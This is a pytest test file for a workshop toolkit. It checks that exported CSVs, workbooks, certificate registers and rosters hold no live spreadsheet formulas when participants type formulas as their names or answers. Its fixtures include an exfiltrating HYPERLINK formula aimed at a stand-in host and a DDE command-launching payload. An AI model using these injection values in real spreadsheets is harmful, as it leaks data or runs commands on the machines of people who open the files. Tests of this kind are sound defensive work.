"""What one person typed stays text in every spreadsheet the toolkit writes: no formula in a CSV or a workbook
(CSV as OWASP recommends; XLSX cells written as text), and a value no workbook can hold is written, not a traceback."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from click.testing import CliRunner

from toolkit import schema
from toolkit.bank import parse_bank
from toolkit.cells import csv_cell
from toolkit.certificates import make_certificates
from toolkit.cli import main
from toolkit.export import export
from toolkit.formats import export_bank
from toolkit.results import load_results
from toolkit.store import Store

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TYPED = {"name": LINK, "organisation": "@SUM(1+1)*cmd|' /C calc'!A0", "rank": "-2+3", "answer": "+1+2",
         "other_name": "-Bilal"}
FORMULA = ("=", "+", "-", "@")


@pytest.fixture
def typed(tmp_path, all_types_bank):
    """A workshop where people typed formulas as their name, organisation, rank and answers."""
    store = Store(f"sqlite:///{tmp_path / 'data' / 'toolkit.db'}")
    workshop = store.add_workshop("=1+1 workshop", place="Quetta")
    session = store.add_session(workshop["id"], "Day 1")
    pre = store.add_activity(session["id"], all_types_bank, "pretest")
    post = store.add_activity(session["id"], all_types_bank, "posttest")
    survey = store.add_activity(session["id"], all_types_bank, "survey")
    people = [store.join(session["join_code"], TYPED["name"], sex="female", organisation=TYPED["organisation"],
                         rank=TYPED["rank"]),
              store.join(session["join_code"], TYPED["other_name"], sex="male", organisation="FIA", rank="ASI")]
    for activity in (pre, post, survey):
        store.open_activity(activity["id"])
        for p in people:
            attempt = store.start_attempt(activity["id"], p["id"])
            store.save_answer(attempt["id"], "consent", True)
            store.save_answer(attempt["id"], "age", -3)  # a number stays a number
            store.save_answer(attempt["id"], "comment", TYPED["answer"])
            store.submit_attempt(attempt["id"])
    store.add_rostered(workshop["id"], [{"name": TYPED["name"], "sex": "female", "organisation": TYPED["organisation"],
                                         "rank": TYPED["rank"], "contact": "=cmd"}])
    yield store, workshop, session, people
    store.close()


def _csv_cells(path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _formula_cells(cells) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA) and c != "-3"]


def test_the_answers_csv_has_no_formula_and_keeps_every_typed_text_behind_an_apostrophe(typed, tmp_path):
    store, *_ = typed
    path = export(load_results(store), "csv", tmp_path / "answers.csv")
    cells = _csv_cells(path)
    assert _formula_cells(cells) == []
    for text in (TYPED["organisation"], TYPED["rank"]):  # (open answers are in the workbook: the CSV is scored ones)
        assert "'" + text in cells
    assert "-3" in cells  # a negative number is written as a number


def test_the_workbook_holds_no_formula_and_shows_each_text_exactly_as_typed(typed, tmp_path):
    store, *_ = typed
    path = export(load_results(store), "xlsx", tmp_path / "all.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    participants = [c.value for row in book["participants"].iter_rows() for c in row]
    assert LINK in participants and TYPED["organisation"] in participants and TYPED["rank"] in participants
    answers = [c.value for row in book["open_answers"].iter_rows() for c in row]
    assert TYPED["answer"] in answers


def test_a_nul_in_a_stored_name_is_written_to_the_workbook_as_a_replacement_character(typed, tmp_path):
    store, _workshop, _session, people = typed
    with store.transaction() as c:  # as an older store or an imported bundle may hold it: the store refuses it today
        c.execute(schema.participants.update().where(schema.participants.c.id == people[1]["id"])
                  .values(display_name="Bil\x00al\x07"))
    path = export(load_results(store), "xlsx", tmp_path / "nul.xlsx")
    rows = list(openpyxl.load_workbook(path)["participants"].values)
    names = [row[rows[0].index("display_name")] for row in rows[1:]]
    assert sorted(names) == sorted([LINK, "Bil\ufffdal\ufffd"])

def test_the_export_command_writes_a_workbook_with_a_nul_in_a_name(typed, tmp_path):
    store, _workshop, _session, people = typed
    with store.transaction() as c:
        c.execute(schema.participants.update().where(schema.participants.c.id == people[1]["id"])
                  .values(display_name="Bil\x00al"))
    out = tmp_path / "series.xlsx"
    result = CliRunner().invoke(main, ["export", "--workshop", "=1+1 workshop", "--format", "xlsx", "--out", str(out),
                                       "--data", str(tmp_path / "data")])
    assert result.exit_code == 0, result.output
    assert result.exception is None and out.exists()


def test_the_certificates_register_has_no_formula(typed, tmp_path):
    store, workshop, session, _people = typed
    make_certificates(store, session["id"], tmp_path / "out", data_dir=tmp_path / "data")
    cells = _csv_cells(tmp_path / "out" / "certificates.csv")
    assert _formula_cells(cells) == []
    assert "'" + LINK in cells and "'=1+1 workshop" in cells and "'-Bilal" in cells


def test_the_roster_list_csv_has_no_formula(typed, tmp_path):
    store, workshop, *_ = typed
    out = tmp_path / "codes.csv"
    result = CliRunner().invoke(main, ["roster", "list", "--workshop", workshop["title"], "--out", str(out),
                                       "--data", str(tmp_path / "data")])
    assert result.exit_code == 0, result.output
    cells = _csv_cells(out)
    assert _formula_cells(cells) == []
    assert "'" + LINK in cells and "'=cmd" in cells and "'" + TYPED["organisation"] in cells


def test_an_xlsform_of_a_bank_whose_text_starts_with_equals_holds_no_formula(tmp_path):
    content = {"format": 1, "id": "x", "title": "=x", "kind": "survey", "objectives": [{"id": "O", "text": "o"}],
               "questions": [{"id": "q", "type": "open", "text": LINK}]}
    out = tmp_path / "form.xlsx"
    export_bank(parse_bank(content, "<x>"), "xlsform", out)
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert LINK in [c.value for c in cells]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+92 300 1234567", "'+92 300 1234567"), ("-", "'-"), ("@x", "'@x"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Bil\x00al", "Bil\ufffdal"), ("\x00=1", "\ufffd=1"), ("-3", "-3"), ("+4.5", "+4.5"), ("1e-3", "1e-3"), ("Amna", "Amna"), ("a=b", "a=b"), (3, 3),
])
def test_a_csv_cell_is_neutralised_only_when_a_spreadsheet_would_read_a_formula(value, cell):
    assert csv_cell(value) == cell

